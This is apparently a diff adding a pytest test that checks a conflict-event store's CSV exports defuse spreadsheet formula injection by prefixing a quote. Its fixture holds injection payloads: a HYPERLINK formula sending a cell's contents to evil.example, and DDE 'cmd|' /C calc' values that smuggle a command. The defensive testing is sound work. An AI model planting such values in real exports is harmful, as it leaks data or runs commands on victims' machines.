@@ -142,3 +142,93 @@ def test_store_bench_measures_both_databases(postgres_server) -> None:
     # Both databases hold the same corpus, so every query returns the same rows.
     sqlite_rows = [q["rows"] for q in result["backends"]["sqlite"]["queries"]]
     assert sqlite_rows == [q["rows"] for q in result["backends"]["postgresql"]["queries"]]
+
+
+FORMULAS = {
+    "outlet": "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+    "notes": "+cmd|' /C calc'!A0",
+    "actor": "-2+3+cmd|' /C calc'!A0",
+    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "admin1": "\t=1+1",
+    "admin2": "\r=1+1",
+}
+
+
+def _formula_store(url: str) -> None:
+    "A store holding one event whose outlet, notes, actor and place start like formulas."
+    import dataclasses
+
+    from api_data import xss_article
+
+    from sitrep.store import open_store
+
+    article, (event,) = xss_article()
+    article = dataclasses.replace(article, outlet=FORMULAS["outlet"])
+    actor = dataclasses.replace(event.actors[0], name=FORMULAS["actor"])
+    place = dataclasses.replace(
+        event.location,
+        name=FORMULAS["place"],
+        admin1=FORMULAS["admin1"],
+        admin2=FORMULAS["admin2"],
+        longitude=-3.5,
+    )
+    event = dataclasses.replace(
+        event,
+        actors=(actor, *event.actors[1:]),
+        location=place,
+        notes=FORMULAS["notes"],
+        sources=(FORMULAS["outlet"],),
+    )
+    with open_store(url) as store:
+        store.ingest(article, [event])
+
+
+def _cells(text: str) -> dict[str, str]:
+    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
+    return {
+        "outlet": row["source"],
+        "notes": row["notes"],
+        "actor": row["actor1"],
+        "place": row["location"],
+        "admin1": row["admin1"],
+        "admin2": row["admin2"],
+        "longitude": row["longitude"],
+    }
+
+
+@pytest.mark.reliability(
+    "outlet, notes, actor or place starting with =, +, -, @, tab or CR in a CSV export",
+    "a leading ' so spreadsheets show it as text (OWASP); --raw-cells writes it as stored",
+)
+def test_csv_cells_never_run_as_formulas(store_url, tmp_path) -> None:
+    from api_data import TestClient
+
+    from sitrep.api import create_app
+
+    _formula_store(store_url)
+    defused = {name: "'" + value for name, value in FORMULAS.items()}
+    out = tmp_path / "events.csv"
+    written = _run("export", "--db", store_url, "--format", "acled-csv", "-o", str(out))
+    assert written.exit_code == 0, written.stderr
+    with TestClient(create_app(store_url)) as client:
+        api = client.get("/api/export", params={"format": "acled-csv"})
+        api_raw = client.get("/api/export", params={"format": "acled-csv", "raw_cells": "true"})
+    outputs = {
+        "export -o": out.read_bytes().decode("utf-8"),
+        "export": _run("export", "--db", store_url, "--format", "acled-csv").stdout,
+        "events": _run("events", "--db", store_url, "--format", "csv").stdout,
+        "/api/export": api.text,
+    }
+    for where, text in outputs.items():
+        cells = _cells(text)
+        assert cells.pop("longitude") == "-3.5", where  # a number stays a number
+        assert cells == defused, where
+    raw = {
+        "export": _run("export", "--db", store_url, "--format", "acled-csv", "--raw-cells").stdout,
+        "events": _run("events", "--db", store_url, "--format", "csv", "--raw-cells").stdout,
+        "/api/export": api_raw.text,
+    }
+    for where, text in raw.items():
+        cells = _cells(text)
+        cells.pop("longitude")
+        assert cells == FORMULAS, where
